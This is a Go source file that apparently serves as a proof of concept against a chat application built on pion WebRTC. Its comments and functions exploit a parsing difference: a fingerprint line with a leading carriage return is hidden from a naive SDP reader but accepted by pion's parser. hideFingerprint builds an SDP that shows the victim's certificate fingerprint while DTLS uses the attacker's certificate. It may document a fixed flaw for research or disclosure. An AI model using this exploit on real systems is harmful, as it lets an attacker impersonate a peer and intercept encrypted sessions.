package main

import (
	"strings"

	"github.com/pion/sdp/v3"
)

// How the hidden fingerprint works.
//
// A naive reader of SDP text, like rtchat's old sdpAttr, splits on "\n", trims a trailing
// "\r" from each piece and takes the first piece that starts with "a=fingerprint:".
//
// pion's SDP lexer (pion/sdp/v3 base_lexer.go), which SetRemoteDescription uses and whose
// result DTLS checks the peer's certificate against, treats '\r' as a line break of its own
// (isNewline is '\r' or '\n'): readType skips every '\r' and '\n' before a line's
// "<type>=", and readLine then reads up to the next '\n', dropping the '\r's at its end.
// pion's extractFingerprint takes the FIRST session-level a=fingerprint (else the first in a
// media section) and ignores any later one.
//
// So a line "\ra=fingerprint:sha-256 REAL" is invisible to the naive reader (after the
// split it starts with '\r', not "a=") but is an ordinary fingerprint attribute to pion.
// Writing it directly before a normal "a=fingerprint:sha-256 VICTIM" line, at every place
// where pion put its own fingerprint (session level and the data media section), makes the
// naive reader find VICTIM first while pion uses REAL, the attacker's certificate.

// naiveFingerprint is the value of the first a=fingerprint: line as rtchat's old sdpAttr
// reads it (e.g. "sha-256 4F:1A:…").
func naiveFingerprint(text string) string {
	const prefix = "a=fingerprint:"
	for _, line := range strings.Split(text, "\n") {
		line = strings.TrimRight(line, "\r")
		if strings.HasPrefix(line, prefix) {
			return strings.TrimSpace(line[len(prefix):])
		}
	}
	return ""
}

// parsedFingerprint is the fingerprint pion's parser and DTLS use (extractFingerprint:
// session level first, then the first media section that has one), or "" if the SDP does
// not parse.
func parsedFingerprint(text string) string {
	var d sdp.SessionDescription
	if err := d.UnmarshalString(text); err != nil {
		return ""
	}
	if fp, ok := d.Attribute("fingerprint"); ok {
		return fp
	}
	for _, m := range d.MediaDescriptions {
		if fp, ok := m.Attribute("fingerprint"); ok {
			return fp
		}
	}
	return ""
}

// hideFingerprint rewrites the attacker's own SDP so that every a=fingerprint line of it
// becomes hidden (a leading '\r') and is followed by a visible line showing visible (the
// victim's fingerprint, "sha-256 …").
func hideFingerprint(own, visible string) string {
	lines := strings.Split(own, "\r\n")
	out := make([]string, 0, len(lines)+2)
	for _, l := range lines {
		if strings.HasPrefix(l, "a=fingerprint:") {
			out = append(out, "\r"+l, "a=fingerprint:"+visible)
			continue
		}
		out = append(out, l)
	}
	return strings.Join(out, "\r\n")
}
